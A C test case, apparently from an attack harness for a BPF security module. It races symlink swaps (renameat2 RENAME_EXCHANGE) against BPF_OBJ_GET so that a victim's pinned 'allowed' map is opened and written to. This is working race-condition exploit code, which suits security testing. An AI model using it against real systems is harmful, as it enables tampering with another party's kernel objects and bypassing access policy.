// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Opens a map by the name of a symbolic link, while another thread exchanges that for one that leads to a pin of the victim's.
 * Success: the victim's map, to write to.
 */
#include "bpf.h"
#include <pthread.h>
#include <sys/stat.h>

#define OWN "/sys/fs/bpf/own"
#define NAME SCRATCH "/name"
#define OTHER SCRATCH "/other"

static volatile bool is_over;

static void *exchange(void *unused)
{
	(void)unused;
	while (!is_over)
		renameat2(AT_FDCWD, NAME, AT_FDCWD, OTHER, RENAME_EXCHANGE);
	return NULL;
}

static void run(void)
{
	int map = must("BPF_MAP_CREATE", create_map(BPF_MAP_TYPE_ARRAY, 4, 4, 1, 0, 0));
	pthread_t thread;

	must("BPF_OBJ_PIN", pin(map, OWN));
	must("symlink", symlink(OWN, NAME));
	must("symlink", symlink(VICTIM "/maps/allowed", OTHER));
	must("pthread_create", -pthread_create(&thread, NULL, exchange, NULL));
	for (int tries = 0; tries < 50000; tries++) {
		uint32_t zero = 0, one = 1;
		int opened = act("BPF_OBJ_GET", open_pin(NAME, 0));

		if (opened >= 0) {
			update_map(opened, &zero, &one, BPF_ANY);
			close(opened);
		}
		if (!holds("lsm"))
			break;
	}
	is_over = true;
	pthread_join(thread, NULL);
	act("BPF_OBJ_GET", open_pin(VICTIM "/maps/allowed", 0));
}

static void undo(void)
{
	unlink(OWN);
}

ATTACK("exchanges the name of a pin while it is judged", .run = run, .undo = undo, .seconds = 60);
